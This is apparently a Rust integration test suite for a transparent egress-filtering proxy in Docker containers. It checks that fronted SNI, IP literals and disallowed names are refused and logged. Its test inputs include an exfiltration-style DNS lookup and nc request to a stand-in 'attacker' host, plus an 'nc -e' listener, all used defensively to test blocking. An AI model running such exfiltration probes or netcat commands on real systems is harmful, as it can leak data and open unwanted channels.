//! End to end: transparent egress (mode "proxy", `transparent = true`,
//! tests/policies/proxy-transparent.toml) through the private dockerd,
//! against a `vibe-shim egress` daemon this suite starts itself. Clients are
//! busybox tools run with every proxy variable unset, as a tool that
//! ignores them would: on Docker's default bridge (the host's nameservers
//! copied into resolv.conf) and on a user network (Docker's embedded DNS at
//! 127.0.0.11, which Docker DNATs inside the container's namespace).
//!
//! The test host is a namespace of ours one hop from the host
//! (`one_hop_host`, 198.51.100.128/27 and 203.0.113.128/27); its names are
//! in the host's /etc/hosts for the daemon, in a marked block removed on
//! drop.

use std::sync::{Mutex, MutexGuard};

use vibe_policy::egress::sni::build_client_hello;
use vibe_shim_tests::docker::{self, Container, IMAGE};
use vibe_shim_tests::egress::{one_hop_host, Daemon, HostsBlock};
use vibe_shim_tests::harness::Output;
use vibe_shim_tests::netns::Netns;

const ALLOWED: &str = "allowed.transparent.vibe-test";
/// Also allowed: SNI naming it on a connection to ALLOWED's answer is
/// domain fronting.
const FRONTED: &str = "fronted.transparent.vibe-test";
const STEM: &str = "proxy-transparent";
/// A user network of our own dockerd (a private range of ours).
const NETWORK: &str = "vtp-transparent";
const SUBNET: &str = "172.31.95.0/24";

static SERIAL: Mutex<()> = Mutex::new(());

fn serial() -> MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|e| e.into_inner())
}

struct Upstream {
    _ns: Netns,
    ip: String,
    _hosts: HostsBlock,
}

impl Upstream {
    fn new() -> Upstream {
        let (mut ns, ip) = one_hop_host("vtpE", "vtpe", 128);
        ns.tcp_server(80);
        ns.tcp_server(443);
        ns.udp_server(&ip, 443);
        let hosts = HostsBlock::add("e2e_transparent", &[(ALLOWED, &ip), (FRONTED, &ip)]);
        Upstream {
            _ns: ns,
            ip,
            _hosts: hosts,
        }
    }
}

/// `printf` format text for `bytes`, every byte an octal escape.
fn printf_bytes(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("\\{b:03o}")).collect()
}

/// Runs `script` in `c` with no proxy variable set.
fn exec(c: &Container, script: &str) -> Output {
    let script =
        format!("unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy; {script}");
    docker::docker(&["exec", &c.name, "sh", "-c", &script])
}

fn start(c: &Container, flags: &[&str]) {
    let runtime = docker::runtime_for(STEM);
    let mut args = vec!["run", "-d", "--name", &c.name, "--runtime", &runtime];
    args.extend_from_slice(flags);
    args.extend_from_slice(&[IMAGE, "sleep", "300"]);
    let out = docker::docker(&args);
    assert!(out.success(), "{out}");
}

/// What the suite checks in one container, whatever network it is on.
fn judge(c: &Container, up: &Upstream, daemon: &Daemon, label: &str) {
    let resolv = exec(c, "cat /etc/resolv.conf");
    let get = format!("GET / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n");
    // HTTP by name reaches the test host.
    let out = exec(c, &format!("printf '{get}' | nc -w 3 {ALLOWED} 80"));
    assert!(
        out.stdout.lines().any(|l| l.trim() == "ok"),
        "{label}: HTTP by name: {out}\nresolv.conf: {}\n{}",
        resolv.stdout,
        daemon.log()
    );
    // TLS by name: the right SNI passes, a fronted one does not.
    for (sni, passes) in [(ALLOWED, true), (FRONTED, false)] {
        let hello = printf_bytes(&build_client_hello(Some(sni), 16_384));
        let out = exec(c, &format!("printf '{hello}' | nc -w 3 {ALLOWED} 443"));
        let got = out.stdout.lines().any(|l| l.trim() == "ok");
        assert_eq!(got, passes, "{label}: TLS with SNI {sni}: {out}");
    }
    // A refused name does not resolve.
    let out = exec(c, "nslookup secret-9.attacker.vibe-test; echo rc=$?");
    assert!(
        !out.stdout.contains("Address: 203.") && !out.stdout.contains("rc=0"),
        "{label}: a refused name resolved: {out}"
    );
    let out = exec(
        c,
        &format!("printf '{get}' | nc -w 3 secret-9.attacker.vibe-test 80"),
    );
    assert!(!out.stdout.contains("ok"), "{label}: {out}");
    // The allowed host's IP literal, and an address on the container's
    // own link (the gateway): refused by the listener, a 403 naming
    // vibe-shim, logged (checked by the caller). TLS to it: closed.
    let gateway = c.inspect("{{range .NetworkSettings.Networks}}{{.Gateway}}{{end}}");
    for target in [up.ip.as_str(), gateway.trim()] {
        let out = exec(c, &format!("printf '{get}' | nc -w 3 {target} 80"));
        assert!(
            out.stdout.starts_with("HTTP/1.1 403")
                && out.stdout.contains("vibe-shim egress: denied")
                && out.stdout.contains("an IP literal")
                && !out.stdout.contains("\nok"),
            "{label}: IP literal {target}: {out}"
        );
    }
    let hello = printf_bytes(&build_client_hello(Some(ALLOWED), 16_384));
    let out = exec(c, &format!("printf '{hello}' | nc -w 3 {} 443", up.ip));
    assert!(
        !out.stdout.contains("ok"),
        "{label}: TLS to the literal: {out}"
    );
    // IPv6, where the network has it: the gateway's address (on the link)
    // and one off it are refused the same way.
    let v6 = c.inspect("{{range .NetworkSettings.Networks}}{{.IPv6Gateway}}{{end}}");
    let v6 = v6.trim();
    if !v6.is_empty() {
        for target in [v6, "2001:db8:7470::130"] {
            let out = exec(c, &format!("printf '{get}' | nc -w 3 {target} 80"));
            assert!(
                out.stdout.starts_with("HTTP/1.1 403") && out.stdout.contains("an IP literal"),
                "{label}: IPv6 literal {target}: {out}"
            );
        }
    }
    // Not caught: a server of the container's own, on its own address and
    // on loopback.
    let own = c.inspect("{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}");
    let out = exec(
        c,
        &format!(
            "nc -ll -p 8070 -e echo ok </dev/null >/dev/null 2>&1 & sleep 0.3; nc -w 2 {} 8070; nc -w 2 127.0.0.1 8070",
            own.trim()
        ),
    );
    assert_eq!(
        out.stdout.lines().filter(|l| l.trim() == "ok").count(),
        2,
        "{label}: its own server: {out}"
    );
    // UDP/443 (QUIC's port): nothing, by name or by address.
    for target in [ALLOWED, up.ip.as_str()] {
        let out = exec(c, &format!("echo hi | nc -u -w 2 {target} 443"));
        assert!(
            !out.stdout.contains("ok"),
            "{label}: UDP to {target}: {out}"
        );
    }
    // A client of the proxy variables is served as before.
    let out = exec(
        c,
        &format!(
            "printf 'GET http://{ALLOWED}/ HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n' | nc -w 3 127.0.0.1 3128"
        ),
    );
    assert!(out.stdout.contains("ok"), "{label}: via the proxy: {out}");
}

#[test]
#[ignore = "needs root, runc and the test env: run tests/run.sh"]
fn tools_that_ignore_the_proxy_on_the_default_bridge() {
    let _serial = serial();
    let daemon = Daemon::start(STEM);
    let up = Upstream::new();
    let c = Container::new("transparent-bridge");
    start(&c, &[]);
    judge(&c, &up, &daemon, "default bridge");
    let log = std::fs::read_to_string(daemon.egress_log()).unwrap_or_default();
    let literal = format!(
        "\"kind\":\"transparent\",\"host\":\"{ip}\",\"port\":80,\"address\":\"{ip}:80\",\"rule\":\"an IP literal",
        ip = up.ip
    );
    for want in [
        "\"kind\":\"dns\",\"host\":\"secret-9.attacker.vibe-test\"",
        "\"kind\":\"transparent-http\"",
        "\"kind\":\"transparent-tls\"",
        literal.as_str(),
    ] {
        assert!(log.contains(want), "{want} not logged:\n{log}");
    }
    assert!(
        !log.contains("\"port\":8070"),
        "its own server logged:\n{log}"
    );
}

#[test]
#[ignore = "needs root, runc and the test env: run tests/run.sh"]
fn tools_that_ignore_the_proxy_on_a_user_network() {
    let _serial = serial();
    let daemon = Daemon::start(STEM);
    let up = Upstream::new();
    let _ = docker::docker(&["network", "rm", NETWORK]);
    let out = docker::docker(&["network", "create", "--subnet", SUBNET, NETWORK]);
    assert!(out.success(), "{out}");
    let c = Container::new("transparent-usernet");
    start(&c, &["--network", NETWORK]);
    let resolv = exec(&c, "cat /etc/resolv.conf");
    assert!(resolv.stdout.contains("127.0.0.11"), "{resolv}");
    judge(&c, &up, &daemon, "user network");
    let log = std::fs::read_to_string(daemon.egress_log()).unwrap_or_default();
    assert!(
        log.contains("\"kind\":\"dns\",\"host\":\"allowed.transparent.vibe-test\""),
        "{log}"
    );
    if std::env::var_os("VTP_SHOW").is_some() {
        eprintln!("{resolv}\n{log}");
    }
    drop(c);
    let _ = docker::docker(&["network", "rm", NETWORK]);
}
